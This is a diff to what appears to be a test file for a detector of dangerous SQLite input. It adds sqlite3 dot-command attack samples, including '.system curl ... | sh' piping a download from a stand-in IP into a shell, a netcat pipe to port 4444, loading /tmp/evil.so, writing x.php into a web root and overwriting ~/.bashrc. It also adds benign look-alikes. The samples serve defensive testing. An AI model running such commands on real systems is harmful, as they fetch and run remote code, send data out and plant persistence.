@@ -58,6 +58,16 @@ _ATTACKS = [
      "sql:file-access"),
     ("SELECT readfile('/etc/passwd')", "sql:file-access"),
     ("SELECT name FROM fsdir('/home/dev/.ssh')", "sql:file-access"),
+    # the sqlite3 shell's dot-commands (sqlite3 db "...", a SQL field a CLI runs)
+    (".shell id", "sql:command-exec"),
+    ("SELECT 1;\n.system curl -s http://203.0.113.45/b | sh", "sql:command-exec"),
+    (".load /tmp/evil.so", "sql:command-exec"),
+    (".output |sh", "sql:command-exec"),
+    (".once '|nc 203.0.113.45 4444'", "sql:command-exec"),
+    (".output /var/www/html/x.php", "sql:file-access"),
+    (".once ~/.bashrc", "sql:file-access"),
+    (".backup main /tmp/x.db", "sql:file-access"),
+    (".save x.php", "sql:file-access"),
     # every row rewritten
     ("REPLACE INTO users (id, role) SELECT id, 'admin' FROM users", "sql:update-all-rows"),
     ("replace into users select id, 'admin' from users;", "sql:update-all-rows"),
@@ -118,6 +128,9 @@ _BENIGN = [
     "attach database 'data/cache.sqlite3' as cache",
     "VACUUM",
     "VACUUM INTO 'backup.db'",
+    ".output out.csv",
+    ".save backup.db",
+    "SELECT a.shell, t.system, o.output FROM t JOIN o ON o.id = t.id",
     "SELECT replace(name, 'a', 'b') FROM users",
     "REPLACE INTO users (id, role) VALUES (1, 'admin')",
     "REPLACE INTO users (id, role) SELECT id, 'viewer' FROM staging WHERE batch = 7",
@@ -147,6 +160,7 @@ def test_look_alikes_pass(text: str) -> None:
         "Attach 'report.pdf' as evidence for the ticket, please.",
         "attach it as a PDF",
         "Please vacuum into the corner",
+        "Saved. System settings live in .output/ now",
     ],
 )
 def test_prose_in_a_query_field_is_not_a_statement(text: str) -> None:
@@ -193,7 +207,7 @@ _PIECES = st.sampled_from(
         "ATTACH", "attach", "DATABASE", "VACUUM", "INTO", "'/x.php'", "'a.db'", "AS", "x", ";",
         "load_extension", "writefile", "readfile", "(", ")", "REPLACE", "INSERT", "OR", "SELECT",
         "id", "FROM", "t", "WHERE", "=", "1", "UPDATE", "SET", "AND", " ", "\n", "/**/", "--",
-        "||", "'", '"', "BETWEEN", ">=",
+        "||", "'", '"', "BETWEEN", ">=", ".", "shell", "output", "|", "/tmp/x",
     ]
 )  # fmt: skip
 
